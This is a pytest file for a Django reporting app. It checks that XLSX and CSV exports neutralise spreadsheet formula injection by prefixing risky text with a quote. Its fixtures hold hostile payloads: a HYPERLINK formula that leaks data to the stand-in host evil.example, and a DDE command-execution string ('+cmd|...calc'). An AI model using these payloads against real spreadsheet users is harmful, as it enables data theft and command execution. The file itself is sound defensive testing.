"""Exports never execute what a user typed: no text cell of an XLSX is a formula, and text a spreadsheet could
take for one (= + - @ tab CR, OWASP's list) is neutralised with a leading quote, in the XLSX and the CSV."""
from __future__ import annotations

import csv
import datetime
import io

import openpyxl
import pytest

from reform.models import Unit
from reporting.services import compliance_compute
from reports import services
from reports.choices import ExportStatus
from reports.exports import safe_text
from reports.periods import ReportingPeriod
from tests.factories import DocumentFactory

from .conftest import YEAR, day

pytestmark = pytest.mark.django_db

PROPOSAL = '=HYPERLINK("http://evil.example/?leak","Click me")'


@pytest.fixture
def hostile(tree, officer_hn):
    Unit.objects.filter(pk=tree["00070"].pk).update(name="=1+2")
    Unit.objects.filter(pk=tree["00004"].pk).update(name="@SUM(A1:A9)")
    for i in range(3):
        DocumentFactory(unit=tree["00070"], number=f"{i + 1}/QĐ-UBND", issued_on=datetime.date(YEAR - 1, 3, 3))
    DocumentFactory(unit=tree["00070"], number="9/QĐ-UBND", issued_on=day(3, 3))
    compliance_compute(year=YEAR)
    services.report_submit(user=officer_hn, unit=tree["01"], year=YEAR, period="Q1", difficulties="+cmd|' /C calc'!A0",
                           proposals=PROPOSAL)


def _export(django_capture_on_commit_callbacks, user, unit, fmt):
    with django_capture_on_commit_callbacks(execute=True):
        export = services.export_request(user=user, unit=unit, period=ReportingPeriod.parse(f"{YEAR}-Q1"), format=fmt)
    export.refresh_from_db()
    assert export.status == ExportStatus.READY, export.error
    with export.file.open("rb") as handle:
        return handle.read()


def test_no_cell_of_the_xlsx_is_a_formula_and_typed_formulas_are_neutralised(
    hostile, reviewer, tree, django_capture_on_commit_callbacks, settings, tmp_path,
):
    settings.MEDIA_ROOT = str(tmp_path)
    workbook = openpyxl.load_workbook(io.BytesIO(_export(django_capture_on_commit_callbacks, reviewer, tree["01"], "xlsx")))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    assert "'" + PROPOSAL in texts
    assert any(text == "'=1+2" or text.startswith("'=1+2") for text in texts), [t for t in texts if "1+2" in t]
    assert not any(text.startswith(("=", "+", "@")) for text in texts)


def test_the_csv_neutralises_names_typed_as_formulas(hostile, reviewer, tree, django_capture_on_commit_callbacks,
                                                      settings, tmp_path):
    settings.MEDIA_ROOT = str(tmp_path)
    rows = list(csv.DictReader(io.StringIO(
        _export(django_capture_on_commit_callbacks, reviewer, tree["01"], "csv").decode())))
    names = {row["unit_name"] for row in rows}
    assert "'=1+2" in names and "'@SUM(A1:A9)" in names
    assert not any(name.startswith(("=", "+", "@")) for name in names)
    # Figures stay figures: a negative value is written as it is.
    assert all(not row["value"].startswith("'") for row in rows)


@pytest.mark.parametrize("text, safe", [
    ("=1+2", "'=1+2"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-10,00 %", "-10,00 %"), ("-5", "-5"), ("-", "-"), ("Hà Nội", "Hà Nội"), ("", ""),
])
def test_safe_text_follows_owasp_and_leaves_signed_figures(text, safe):
    assert safe_text(text) == safe
